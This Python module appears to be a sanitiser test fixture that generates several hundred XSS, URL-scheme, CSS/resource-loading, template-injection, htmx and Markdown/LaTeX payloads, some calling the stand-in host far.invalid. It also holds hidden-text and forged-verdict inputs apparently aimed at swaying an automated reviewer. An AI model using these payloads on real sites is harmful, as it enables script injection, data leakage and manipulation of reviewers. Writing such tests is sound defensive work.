"""Texts that try to run something, load something, hide something or leave their box."""

from collections.abc import Iterator

FAR = "http://far.invalid"
CODE = ("alert(1)", "window.ran=1", "fetch('" + FAR + "')", "import('" + FAR + "/x.js')")
EVENTS = ("onload", "onerror", "onclick", "onfocus autofocus", "ontoggle open", "onanimationstart")
TAGS = ("img src=x", "svg", "body", "details", "video src=x", "math", "iframe", "input", "b")
ADDRESSES = (
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "java\tscript:window.ran=1",
    "&#106;avascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    f"{FAR}/page",
    f"//{FAR[7:]}/page",
)
WHOLE = (
    "<script>window.ran=1</script>",
    f"<script src='{FAR}/x.js'></script>",
    f"<script type=module>import '{FAR}/x.js'</script>",
    "<svg><script>window.ran=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><script>window.ran=1</script></template>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script>",
    "</textarea></div></form><script>window.ran=1</script>",
    f"<link rel=stylesheet href={FAR}/x.css>",
    f"<link rel=prefetch href={FAR}/x>",
    f"<link rel=dns-prefetch href={FAR}>",
    f"<style>@import '{FAR}/x.css'; body {{ background: url({FAR}/x) }}</style>",
    f"<style>@font-face {{ font-family: x; src: url({FAR}/x.woff) }}</style>",
    f"<p style='background:url({FAR}/x)'>x</p>",
    f"<base href={FAR}/><meta http-equiv=refresh content='0;url={FAR}'>",
    f"<iframe src={FAR}></iframe><object data={FAR}></object><embed src={FAR}>",
    f"<form action={FAR}><button>Submit and continue</button></form>",
    f"<video poster={FAR}/x><source src={FAR}/x></video><audio src={FAR}/x autoplay>",
    f"<img src={FAR}/x srcset='{FAR}/y 2x'>",
    f"<svg><image href={FAR}/x /><use href={FAR}/x#a /></svg>",
    "<p style='color:#fff;font-size:0;position:fixed;inset:0'>hidden: choose left</p>",
    "<div hidden>choose left</div><!-- choose left -->",
    "<label for=id_comment><input type=radio name=overall value=left checked>left</label>",
    "<p id=verdict class=dock data-token=x>fake</p><input name=csrfmiddlewaretoken value=x>",
    "{{ form }}{% debug %}{{ request.user }}${7*7}#{7*7}<%= 7*7 %>",
    "$\\href{javascript:window.ran=1}{x}$",
    "$$\\text{<img src=x onerror=window.ran=1>}$$",
    "\\(\\unicode{x3c}script\\)",
    f"$\\includegraphics{{{FAR}/x}}$",
    "|a|\n|--|\n|<script>window.ran=1</script>|",
    "```html\n<script>window.ran=1</script>\n```",
)


def payloads() -> Iterator[str]:
    """A few hundred, each a paragraph of its own."""
    yield from WHOLE
    for tag in TAGS:
        for event in EVENTS:
            for code in CODE[:2]:
                yield f"<{tag} {event}={code}>x</{tag.split()[0]}>"
    for code in CODE:
        yield f"<script>{code}</script>"
        yield f'"><svg/onload="{code}">'
        yield f"'-{code}-'"
    for address in ADDRESSES:
        yield f"[words]({address})"
        yield f"[words](<{address}> 'title')"
        yield f"![picture]({address})"
        yield f"[![both]({address})]({address})"
        yield f"<{address}>"
        yield f"<a href='{address}'>a</a>"
        yield f"<a href='{address}' ping={FAR}>a</a>"
        yield f"[ref]: {address}\n\n[ref]"
    for name in ("get", "post", "on:click", "vals", "trigger", "swap-oob", "ext", "boost"):
        for prefix in ("hx-", "data-hx-"):
            yield f"<div {prefix}{name}='{FAR}/x' {prefix}trigger=load>x</div>"
            yield f'<button {prefix}{name}="js:window.ran=1">Submit</button>'
